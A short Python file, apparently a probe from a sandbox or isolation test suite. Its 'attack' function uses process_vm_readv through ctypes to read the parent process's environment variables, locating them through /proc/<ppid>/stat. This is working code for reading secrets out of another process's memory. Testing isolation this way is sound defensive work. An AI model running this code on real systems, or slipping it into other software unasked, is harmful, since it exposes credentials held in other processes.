"""Another process's memory by process_vm_readv: here the parent's stack, where its environment lies."""

import ctypes
import os


class Vector(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


def attack(event):
    with open("/proc/%d/stat" % os.getppid()) as stat:
        fields = stat.read().rpartition(")")[2].split()
    start, end = int(fields[47]), int(fields[48])  # env_start, env_end
    room = ctypes.create_string_buffer(end - start)
    local, remote = Vector(ctypes.addressof(room), end - start), Vector(start, end - start)
    libc = ctypes.CDLL(None, use_errno=True)
    got = libc.process_vm_readv(os.getppid(), ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
    return room.raw.decode(errors="replace") if got > 0 else "errno %d" % ctypes.get_errno()
